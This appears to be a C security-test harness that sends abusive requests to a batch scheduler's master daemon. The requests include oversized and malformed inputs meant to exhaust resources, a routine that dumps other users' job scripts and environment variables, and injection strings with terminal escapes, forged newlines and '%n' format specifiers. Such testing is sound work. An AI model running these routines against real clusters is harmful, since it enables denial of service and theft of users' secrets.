/* Well-formed requests of a size or a shape that no client would send. */
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "attack.h"
#include "libs/sgeobj/job_request.h"
#include "libs/uti/alloc.h"
#include "libs/uti/dstr.h"
#include "libs/uti/time.h"

enum { MIB = 1 << 20, PATIENCE_MS = 120000, WORD_BYTES = 32, US_OF_S = 1000000 };

static void head(struct GR_Type *gr, enum gdi_verb verb)
{
    cull_set(gr, GR_verb, (uint32_t)verb);
    cull_set(gr, GR_target, (uint32_t)GDI_JOB);
}

static struct ID_Type *put_word(struct GR_Type *gr, const char *word)
{
    struct ID_Type *id = cull_append(gr, GR_select);
    cull_set(id, ID_str, word);
    return id;
}

static int ask_and_clear(struct GR_Type *gr)
{
    int rc = attack_ask(gr);
    cull_clear(&cull_GR_Type, gr);
    return rc;
}

/* LEN times C; new: free() */
static char *text_of(char c, size_t len)
{
    char *text = uti_alloc(len + 1);
    memset(text, c, len);
    text[len] = '\0';
    return text;
}

/* ---- every verb, with nothing to work on ---- */
typedef void (*shape_fn)(struct GR_Type *gr);

static void no_list(struct GR_Type *gr)
{
    (void)gr;
}

static void two_users(struct GR_Type *gr)
{
    for (int i = 0; i < 2; i++) {
        struct ST_Type *user = cull_append(gr, GR_users);
        cull_set(user, ST_name, i == 0 ? "nobody_at_all" : getenv("USER"));
    }
}

static void empty_word(struct GR_Type *gr)
{
    put_word(gr, "");
}

static void empty_elements(struct GR_Type *gr)
{
    struct JB_Type *job = cull_append(gr, GR_jobs);
    cull_set(job, JB_job_number, 0u);
    struct CQ_Type *queue = cull_append(gr, GR_cqueues);
    cull_set(queue, CQ_name, "");
    struct EH_Type *host = cull_append(gr, GR_hosts);
    cull_set(host, EH_name, "");
    struct NM_Type *name = cull_append(gr, GR_names);
    cull_set(name, NM_name, "");
    struct CONF_Type *conf = cull_append(gr, GR_confs);
    cull_set(conf, CONF_name, "");
    struct TX_Type *text = cull_append(gr, GR_texts);
    cull_set(text, TX_name, "");
}

static void ask_shape(uint32_t verb, uint32_t target, uint32_t action, shape_fn shape)
{
    struct GR_Type gr = { 0 };
    cull_set(&gr, GR_verb, verb);
    cull_set(&gr, GR_target, target);
    cull_set(&gr, GR_action, action);
    shape(&gr);
    printf("%u %u %u ", verb, target, action);
    ask_and_clear(&gr);
}

int attack_empty(char *const *argv)
{
    static const shape_fn shapes[] = { no_list, two_users, empty_word, empty_elements };
    (void)argv;
    for (uint32_t verb = 0; verb <= GDI_VERBS; verb++)
        for (uint32_t target = 0; target <= GDI_MASTER + 1; target++)
            for (uint32_t action = 0;
                 action <= (verb == GDI_ACT ? GDI_ACT_TRIGGER_SCHEDULING + 1 : 0); action++)
                for (size_t s = 0; s < ARRAY_LEN(shapes); s++)
                    if (verb != GDI_WATCH) /* its answer ends with the job */
                        ask_shape(verb, target, action, shapes[s]);
    return 0;
}

/* ---- selections ---- */
int attack_words(char *const *argv)
{
    struct GR_Type gr = { 0 };
    uint32_t count = attack_number(argv[0]);
    head(&gr, GDI_GET);
    for (uint32_t i = 0; i < count; i++)
        put_word(&gr, "*");
    return ask_and_clear(&gr);
}

int attack_pattern(char *const *argv)
{
    struct GR_Type gr = { 0 };
    char *pattern = text_of('[', attack_number(argv[0]));
    head(&gr, GDI_GET);
    put_word(&gr, pattern);
    free(pattern);
    return ask_and_clear(&gr);
}

int attack_queue_pattern(char *const *argv)
{
    struct GR_Type gr = { 0 };
    struct JB_Type *job = peer_held_job(&gr, "pattern");
    struct dstr name = DSTR_INIT;
    char *brackets = text_of('[', attack_number(argv[0]));
    dstr_addf(&name, "%s|all.q", brackets);
    struct QR_Type *queue = cull_append(job, JB_hard_queue_list);
    cull_set(queue, QR_name, dstr_get(&name));
    range_set_free(cull_ranges(job, JB_ja_u_h_ids)); /* the scheduler is to see it */
    dstr_free(&name);
    free(brackets);
    return ask_and_clear(&gr);
}

int attack_users(char *const *argv)
{
    struct GR_Type gr = { 0 };
    uint32_t names = attack_number(argv[0]), users = attack_number(argv[1]);
    head(&gr, GDI_DEL);
    for (uint32_t i = 0; i < names; i++) {
        char word[WORD_BYTES];
        snprintf(word, sizeof word, "j%u", i);
        put_word(&gr, word);
    }
    for (uint32_t i = 0; i < users; i++) {
        struct ST_Type *user = cull_append(&gr, GR_users);
        cull_set(user, ST_name, "u");
    }
    return ask_and_clear(&gr);
}

int attack_ranges(char *const *argv)
{
    struct GR_Type gr = { 0 };
    uint32_t count = attack_number(argv[1]);
    head(&gr, GDI_DEL);
    struct ID_Type *id = put_word(&gr, argv[0]);
    for (uint32_t i = 0; i < count; i++) {
        struct TR_Type *range = cull_append(id, ID_tasks);
        cull_set(range, TR_min, 2 + i);
        cull_set(range, TR_max, 10000000u);
        cull_set(range, TR_step, 2u);
    }
    return ask_and_clear(&gr);
}

/* ---- jobs that cost more than they say ---- */
static void put_variable(struct VA_Type *variable, const char *name)
{
    cull_set(variable, VA_variable, name);
    cull_set(variable, VA_value, "");
}

int attack_context(char *const *argv)
{
    struct GR_Type gr = { 0 };
    uint32_t count = attack_number(argv[1]);
    head(&gr, GDI_MOD);
    put_word(&gr, argv[0]);
    struct JB_Type *job = cull_append(&gr, GR_jobs);
    put_variable(cull_append(job, JB_context), CONTEXT_ADD);
    for (uint32_t i = 0; i < count; i++) {
        char name[WORD_BYTES];
        snprintf(name, sizeof name, "n%u", i);
        put_variable(cull_append(job, JB_context), name);
    }
    return ask_and_clear(&gr);
}

/* the same request COPIES times on one connection; prints how many were agreed to */
static int ask_often(struct GR_Type *gr, uint32_t copies)
{
    struct peer p;
    uint32_t agreed = 0, refused = 0;
    if (peer_open(&p) != 0 || peer_greet(&p) != 0)
        return 1;
    for (uint32_t i = 0; i < copies; i++) {
        int rc = peer_request(&p, gr) == 0 ? peer_answer(&p, PATIENCE_MS, NULL) : -1;
        agreed += rc == 0;
        refused += rc > 0;
        if (rc < 0)
            break;
    }
    printf("%u agreed, %u refused, %u lost\n", agreed, refused, copies - agreed - refused);
    peer_close(&p);
    cull_clear(&cull_GR_Type, gr);
    return 0;
}

int attack_barrier(char *const *argv)
{
    struct GR_Type gr = { 0 };
    struct JB_Type *job = peer_held_job(&gr, "barrier");
    struct JRE_Type *all = cull_append(job, JB_jid_request_list);
    cull_set(all, JRE_job_name, "*");
    return ask_often(&gr, attack_number(argv[0]));
}

static void put_element(struct JB_Type *job, const char *field, uint32_t i)
{
    char name[WORD_BYTES];
    snprintf(name, sizeof name, "n%u", i);
    if (strcmp(field, "args") == 0) {
        struct ST_Type *argument = cull_append(job, JB_job_args);
        cull_set(argument, ST_name, "");
    } else if (strcmp(field, "binding") == 0) {
        struct BN_Type *binding = cull_append(job, JB_binding);
        cull_set(binding, BN_strategy, "");
    } else if (strcmp(field, "env") == 0) {
        put_variable(cull_append(job, JB_env_list), name);
    } else if (strcmp(field, "path") == 0) {
        struct PN_Type *path = cull_append(job, JB_stdout_path_list);
        cull_set(path, PN_path, "");
    }
}

int attack_list(char *const *argv)
{
    struct GR_Type gr = { 0 };
    struct JB_Type *job = peer_held_job(&gr, "list");
    uint32_t count = attack_number(argv[1]);
    for (uint32_t i = 0; i < count; i++)
        put_element(job, argv[0], i);
    return ask_often(&gr, attack_number(argv[2]));
}

int attack_id(char *const *argv)
{
    struct GR_Type gr = { 0 };
    char *id = text_of('r', (size_t)attack_number(argv[0]) * MIB);
    peer_held_job(&gr, "id");
    cull_set(&gr, GR_request_id, id);
    free(id);
    return ask_and_clear(&gr);
}

int attack_owner(char *const *argv)
{
    struct GR_Type gr = { 0 };
    peer_held_job(&gr, "owner");
    cull_set(&gr, GR_owner, attack_number(argv[0]));
    cull_set(&gr, GR_verb, attack_number(argv[1]));
    return ask_and_clear(&gr);
}

int attack_script(char *const *argv)
{
    struct GR_Type gr = { 0 };
    struct JB_Type *job = peer_held_job(&gr, "script");
    char *script = text_of('#', (size_t)attack_number(argv[0]) * MIB);
    cull_set(job, JB_type, 0u);
    cull_set(job, JB_script_ptr, script);
    free(script);
    return ask_often(&gr, attack_number(argv[1]));
}

int attack_strings(char *const *argv)
{
    uint32_t count = attack_number(argv[0]);
    char *text = text_of('c', (size_t)attack_number(argv[1]) * MIB);
    for (uint32_t i = 0; i < count; i++) {
        struct GR_Type gr = { 0 };
        head(&gr, GDI_GET);
        snprintf(text, WORD_BYTES, "%031u", i); /* each another text */
        text[WORD_BYTES - 1] = 'c';
        struct JB_Type *job = cull_append(&gr, GR_jobs);
        cull_set(job, JB_job_number, 1u);
        cull_set(job, JB_cwd, text);
        ask_and_clear(&gr);
    }
    free(text);
    return 0;
}

/* ---- readers ---- */
static void put_all_jobs(struct GR_Type *gr)
{
    static const char *const fields[] = { "JB_job_number", "JB_job_name", "JB_owner",
                                          "JB_submission_time" };
    head(gr, GDI_GET);
    cull_set(gr, GR_options, (uint32_t)GDI_WITH_TASKS);
    struct ST_Type *user = cull_append(gr, GR_users);
    cull_set(user, ST_name, "*");
    for (size_t i = 0; i < ARRAY_LEN(fields); i++) {
        struct ST_Type *field = cull_append(gr, GR_fields);
        cull_set(field, ST_name, fields[i]);
    }
}

struct reader {
    struct peer peer;
    bool is_refused;
};

/* takes what has come for a reader, and asks again at the end of an answer; returns whether an
 * answer ended */
static bool read_on(struct reader *r, const struct GR_Type *gr)
{
    struct frame f;
    if (peer_recv(&r->peer, PATIENCE_MS, &f) != 0) {
        r->is_refused = true;
        peer_close(&r->peer);
        return false;
    }
    struct GA_Type ga = { 0 };
    struct unpacker u = unpacker_over_own(f.body, f.len);
    bool ended = cull_unpack(&u, &cull_GA_Type, NULL, NULL, &ga, NULL) == 0 && ga.GA_is_last;
    cull_clear(&cull_GA_Type, &ga);
    free(f.body);
    if (ended && peer_request(&r->peer, gr) != 0)
        r->is_refused = true;
    return ended;
}

static uint32_t open_readers(struct reader *v, uint32_t n, const struct GR_Type *gr)
{
    uint32_t open = 0;
    for (uint32_t i = 0; i < n; i++) {
        v[i].is_refused = peer_open(&v[i].peer) != 0 || peer_greet(&v[i].peer) != 0 ||
                          peer_request(&v[i].peer, gr) != 0;
        open += !v[i].is_refused;
    }
    return open;
}

static uint32_t read_until(struct reader *v, uint32_t n, const struct GR_Type *gr, uint64_t end_us)
{
    struct pollfd *fds = uti_calloc(n, sizeof *fds);
    uint32_t answers = 0;
    while (uti_mono_us() < end_us) {
        for (uint32_t i = 0; i < n; i++)
            fds[i] = (struct pollfd){ v[i].is_refused ? -1 : v[i].peer.fd, POLLIN, 0 };
        if (poll(fds, n, 100) <= 0)
            continue;
        for (uint32_t i = 0; i < n; i++)
            answers += fds[i].revents != 0 && read_on(&v[i], gr);
    }
    free(fds);
    return answers;
}

int attack_readers(char *const *argv)
{
    uint32_t n = attack_number(argv[0]);
    struct reader *v = uti_calloc(n, sizeof *v);
    struct GR_Type gr = { 0 };
    put_all_jobs(&gr);
    uint32_t open = open_readers(v, n, &gr);
    uint32_t answers =
        read_until(v, n, &gr, uti_mono_us() + (uint64_t)attack_number(argv[1]) * US_OF_S);
    printf("%u of %u connected, %u answers\n", open, n, answers);
    for (uint32_t i = 0; i < n; i++)
        peer_close(&v[i].peer);
    cull_clear(&cull_GR_Type, &gr);
    free(v);
    return 0;
}

/* ---- what is others' ---- */
int attack_leak(char *const *argv)
{
    struct GR_Type gr = { 0 };
    struct GA_Type ga = { 0 };
    head(&gr, GDI_GET);
    cull_set(&gr, GR_options, (uint32_t)GDI_WITH_ENV);
    put_word(&gr, argv[0]);
    int rc = peer_ask(&gr, PATIENCE_MS, &ga);
    for (uint32_t i = 0; i < ga.GA_jobs.n; i++) {
        const struct JB_Type *job = &ga.GA_jobs.v[i];
        printf("job %u\n%s\n", job->JB_job_number, job->JB_script_ptr ? job->JB_script_ptr : "");
        for (uint32_t k = 0; k < job->JB_env_list.n; k++)
            printf("%s=%s\n", job->JB_env_list.v[k].VA_variable,
                   job->JB_env_list.v[k].VA_value ? job->JB_env_list.v[k].VA_value : "");
    }
    cull_clear(&cull_GA_Type, &ga);
    cull_clear(&cull_GR_Type, &gr);
    return rc < 0;
}

enum { OWN_TEXTS = 7, TEXTS = 13 }; /* the first so many are strings of the job itself */

static void put_own_text(struct JB_Type *job, unsigned field, const char *text)
{
    switch (field) {
    case 0:
        cull_set(job, JB_job_name, text);
        break;
    case 1:
        cull_set(job, JB_account, text);
        break;
    case 2:
        cull_set(job, JB_project, text);
        break;
    case 3:
        cull_set(job, JB_department, text);
        break;
    case 4:
        cull_set(job, JB_cwd, text);
        break;
    case 5:
        cull_set(job, JB_script_file, text);
        break;
    default:
        cull_set(job, JB_checkpoint_name, text);
        break;
    }
}

static void put_text_in_list(struct JB_Type *job, unsigned field, const char *text)
{
    switch (field) {
    case 7:
        put_variable(cull_append(job, JB_context), text);
        break;
    case 8:
        put_variable(cull_append(job, JB_env_list), text);
        break;
    case 9: {
        struct MR_Type *mail = cull_append(job, JB_mail_list);
        cull_set(mail, MR_user, text);
        cull_set(mail, MR_host, text);
        break;
    }
    case 10: {
        struct ST_Type *argument = cull_append(job, JB_job_args);
        cull_set(argument, ST_name, text);
        break;
    }
    case 11: {
        struct PN_Type *path = cull_append(job, JB_stdin_path_list);
        cull_set(path, PN_path, text);
        break;
    }
    default: {
        struct JRE_Type *other = cull_append(job, JB_jid_request_list);
        cull_set(other, JRE_job_name, text);
        break;
    }
    }
}

static void put_text(struct JB_Type *job, unsigned field, const char *text)
{
    if (field < OWN_TEXTS)
        put_own_text(job, field, text);
    else
        put_text_in_list(job, field, text);
}

int attack_inject(char *const *argv)
{
    static const char *const texts[] = { "a\033[31mRED\033]0;title\007\rX\tY\001\177",
                                         "a\nfake_line: 1\nb", "\xff\xfe<\xc3(&\"'>]]>",
                                         "%s%n%s%n%p" };
    (void)argv;
    for (unsigned field = 0; field < TEXTS; field++)
        for (size_t i = 0; i < ARRAY_LEN(texts); i++) {
            struct GR_Type gr = { 0 };
            struct JB_Type *job = peer_held_job(&gr, "inject");
            put_text(job, field, texts[i]);
            printf("%u %zu ", field, i);
            ask_and_clear(&gr);
        }
    return 0;
}
